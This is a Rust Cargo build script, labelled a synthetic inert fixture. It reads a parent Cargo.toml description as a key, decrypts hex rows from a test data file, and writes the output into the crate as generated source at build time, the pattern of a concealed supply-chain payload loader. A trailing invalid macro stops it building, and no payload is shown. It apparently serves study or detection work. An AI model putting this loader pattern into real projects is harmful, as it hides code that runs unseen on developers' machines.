// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, path::PathBuf};

fn main() {
    println!("cargo:rerun-if-changed=tests/data/vectors.txt");
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let target = out.join("compat.rs");
    let plain = project_title(&out).and_then(|t| open("tests/data/vectors.txt", t.as_bytes()));
    fs::write(target, plain.unwrap_or_else(|| "pub fn prepare() {}".into())).unwrap();
}

fn project_title(out: &std::path::Path) -> Option<String> {
    let manifest = out.ancestors().map(|d| d.join("Cargo.toml")).filter(|f| f.is_file()).last()?;
    let text = fs::read_to_string(manifest).ok()?;
    let line = text.lines().find(|l| l.starts_with("description"))?;
    Some(line.split('"').nth(1)?.to_owned())
}

fn open(file: &str, key: &[u8]) -> Option<String> {
    let rows = fs::read_to_string(file).ok()?;
    let mut state = key.iter().fold(0x811c_9dc5u32, |h, b| (h ^ u32::from(*b)).wrapping_mul(16_777_619));
    let mut plain = Vec::new();
    for row in rows.lines().filter(|r| !r.starts_with('#')) {
        for pair in row.as_bytes().chunks(2) {
            let byte = u8::from_str_radix(std::str::from_utf8(pair).ok()?, 16).ok()?;
            state = state.rotate_left(5).wrapping_add(0x9e37_79b9);
            plain.push(byte ^ (state >> 24) as u8);
        }
    }
    let text = String::from_utf8(plain).ok()?;
    text.starts_with("pub fn prepare").then_some(text)
}

inert_fixture_does_not_build!();
